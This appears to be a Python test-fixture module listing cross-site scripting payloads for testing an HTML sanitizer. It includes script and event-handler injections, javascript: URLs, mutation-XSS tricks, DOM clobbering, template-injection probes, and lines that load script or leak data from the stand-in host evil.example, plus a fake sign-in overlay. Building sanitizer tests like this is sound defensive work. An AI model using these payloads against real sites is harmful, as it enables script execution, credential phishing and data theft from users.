"""Ways in which others were made to run script: the families that DOMPurify's tests and the
collections of PortSwigger and OWASP name. Each would open a dialog or ask another site."""

from __future__ import annotations

RUN = "alert(1)"
EVIL = "https://evil.example"

MARKUP = [
    # script by itself, broken or unusual
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCriPt\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"</title></textarea></style></noscript><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    # events
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\x0c=\x0c{RUN}>",
    f"<img src='x' onerror='{RUN}'//",
    f'<img """><script>{RUN}</script>">',
    "<img src=x:x onerror=&#97;lert(1)>",
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onpointerover={RUN} style=position:fixed;inset:0>x</div>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
    f"<xss contenteditable autofocus tabindex=1 onfocus={RUN}>x</xss>",
    f"<p onclick={RUN} accesskey=x>x</p>",
    f"<button popovertarget=x>x</button><xss id=x popover onbeforetoggle={RUN}>x</xss>",
    # addresses
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>",
    f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    f"<a href=vbscript:{RUN}>x</a>",
    "<a href=//evil.example/x>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<base href={EVIL}/><img src=x>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    # other languages inside HTML, and what parsers make of them when they read it twice
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={RUN}>#x\">",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<select><template shadowrootmode=open><img src=x onerror={RUN}></template></select>",
    # styles that tell or cover
    f"<style>@import '{EVIL}/x.css'; a[href^=a]{{background:url({EVIL}/a)}}</style>",
    f"<div style='background:url({EVIL}/x)'>x</div>",
    f"<div style='position:fixed;inset:0;z-index:9999'><a href={EVIL}>Sign in again</a></div>",
    f"<table background={EVIL}/x><tr><td>x</td></tr></table>",
    f"<img src={EVIL}/pixel.gif srcset='{EVIL}/2 2x'>",
    f"<img src=x lowsrc={EVIL}/x dynsrc={EVIL}/x>",
    f"<video poster={EVIL}/x></video>",
    # names that hide the page's own
    "<form id=csrfmiddlewaretoken name=csrfmiddlewaretoken>"
    "<input name=action><input name=submit></form>",
    "<a id=htmx></a><a id=toasts></a><img name=cookie>",
    f"<div hx-get={EVIL}/x hx-trigger=load></div>",
    f"<div hx-on:load={RUN} data-key=e data-dialog=keys></div>",
    # templates
    "{{7*7}}{% debug %}{{settings.SECRET_KEY}}",
    "${{7*7}}#{7*7}<%= 7*7 %>",
]  # fmt: skip

# What one field of a header can carry: a subject, a name, the name of a file.
FIELDS = [
    f"<script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"javascript:{RUN}//{{{{7*7}}}}",
    f"--><img src=x onerror={RUN}><!--",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
]
